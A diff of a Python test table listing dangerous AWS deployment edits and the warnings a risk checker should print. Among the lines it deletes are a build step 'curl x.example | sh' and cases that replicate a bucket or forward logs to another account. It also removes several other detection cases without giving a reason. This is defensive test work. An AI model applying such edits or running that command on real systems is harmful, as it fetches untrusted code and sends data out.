@@ -213,7 +213,6 @@ LINEAR = {
     "LinearStepSize": {"Type": "CAPACITY_PERCENT", "Value": 50},
     "WaitIntervalInSeconds": 0,
 }
-REPLICA = {"Bucket": "arn:aws:s3:::theirs", "Account": OTHER_ACCOUNT}
 
 DANGERS: dict[str, tuple[Edit, str]] = {
     # AWS's defaults
@@ -266,10 +265,6 @@ DANGERS: dict[str, tuple[Edit, str]] = {
         put(*ROUTING, LINEAR),
         "shrunk_protection: ... TrafficRoutingConfiguration.WaitIntervalInSeconds: 600 s -> 0 s",
     ),
-    "old instances terminated at once": (
-        put(*BLUE_GREEN, "TerminationWaitInSeconds", 0),
-        "BlueGreenUpdatePolicy.TerminationWaitInSeconds: 300 s -> 0 s",
-    ),
     "instance counts no longer retained": (
         put("Endpoint", "RetainAllVariantProperties", False),
         "reset_instance_counts: ... independent of the load: RetainAllVariantProperties: true",
@@ -287,31 +282,10 @@ DANGERS: dict[str, tuple[Edit, str]] = {
         put("Model", "ExecutionRoleArn", "arn:aws:iam::111111111111:role/Admin"),
         "widened_access: ... runs as arn:aws:iam::111111111111:role/Admin, whose permissions are",
     ),
-    "new model with a role outside of the stage": (
-        add(New={
-            "Type": "AWS::SageMaker::Model",
-            "Properties": {"ExecutionRoleArn": "arn:aws:iam::111111111111:role/Admin"},
-        }),
-        "widened_access: AWS::SageMaker::Model prod-text/New: runs as arn:aws:iam::111111111111:",
-    ),
     "other existing subnets": (
         put("Model", "VpcConfig", "Subnets", ["subnet-1", "subnet-2"]),
         'internet_routes: ... existing subnets: VpcConfig.Subnets: ["a", "b"] -> ["subnet-1", ',
     ),
-    "function URL without authentication": (
-        add(Url={"Type": "AWS::Lambda::Url", "Properties": {"AuthType": "NONE"}}),
-        "unknown_resources: AWS::Lambda::Url prod-text/Url: no stack has this type of resource",
-    ),
-    "bucket replication": (
-        put("Bucket", "ReplicationConfiguration", {"Rules": [{"Destination": REPLICA}]}),
-        "no stack has the property ReplicationConfiguration.Rules.Destination",
-    ),
-    "log subscription": (
-        add(Filter={"Type": "AWS::Logs::SubscriptionFilter", "Properties": {
-            "LogGroupName": {"Ref": "Log"}, "DestinationArn": arn("logs", "destination:x")}}),
-        "unknown_resources: AWS::Logs::SubscriptionFilter prod-text/Filter: no stack has this type",
-    ),
-    # network access, copies of requests, safeguards, alarms
     "ingress from the internet in two halves": (
         put("Group", "SecurityGroupIngress", [{"CidrIp": "0.0.0.0/1"}, {"CidrIp": "128.0.0.0/1"}]),
         "public_exposure: ... the security group admits the public network 0.0.0.0/1",
@@ -325,10 +299,6 @@ DANGERS: dict[str, tuple[Edit, str]] = {
     "SSM access to instances": (
         put(*VARIANT, "EnableSSMAccess", True),
         "lost_safeguards: ... ProductionVariants.EnableSSMAccess of AllTraffic: none -> true",
-    ),
-    "build command that downloads": (
-        put("Build", "Source", "BuildSpec", "phases:\n  - make\n  - curl x.example | sh\n"),
-        "build_downloads: ... the build runs: curl x.example | sh",
     ),
     "update guard deleted": (
         drop("Guard"),
@@ -363,10 +333,6 @@ DANGERS: dict[str, tuple[Edit, str]] = {
         drop("Subscription"),
         "silenced_alarms: ... email a@example.com is no longer notified by Topic",
     ),
-    "subscription filter": (
-        put("Subscription", "FilterPolicy", {"a": ["b"]}),
-        "email a@example.com is no longer notified of all messages by Topic",
-    ),
     "metric changed": (
         put("Latency", "MetricName", "Other"),
         "the alarm is weaker: another metric: MetricName: ModelLatency -> Other",
@@ -380,14 +346,6 @@ DANGERS: dict[str, tuple[Edit, str]] = {
         drop("TopicPolicy", "PolicyDocument", "Statement", 0),
         "lost_service_access: cloudwatch.amazonaws.com may no longer sns:Publish on Topic",
     ),
-    "ingress from private networks": (
-        put("Group", "SecurityGroupIngress", [{"CidrIp": "10.0.0.0/8"}]),
-        "unknown_resources: ... no stack has the property SecurityGroupIngress.CidrIp",
-    ),
-    "ingress from a public address": (
-        put("Group", "SecurityGroupIngress", [{"CidrIp": "8.8.8.8/32"}, {"CidrIp": "10.0.0.0/8"}]),
-        "public_exposure: ... the security group admits the public network 8.8.8.8/32",
-    ),
     "single zone": (
         put("Model", "VpcConfig", "Subnets", ["a"]),
         'low_availability: ... in a single zone: VpcConfig.Subnets: ["a", "b"] -> ["a"]',
@@ -400,10 +358,7 @@ DANGERS: dict[str, tuple[Edit, str]] = {
         lambda resources: resources["Endpoint"].update(DependsOn=[]),
         "lost_safeguards: AWS::SageMaker::Endpoint prod-text/Endpoint: DependsOn: Guard removed",
     ),
-    "statistic lowered": (
-        put("Latency", "Statistic", "Minimum"),
-        "the alarm is weaker: Average -> Minimum",
-    ),
+
 }  # fmt: skip
 
 
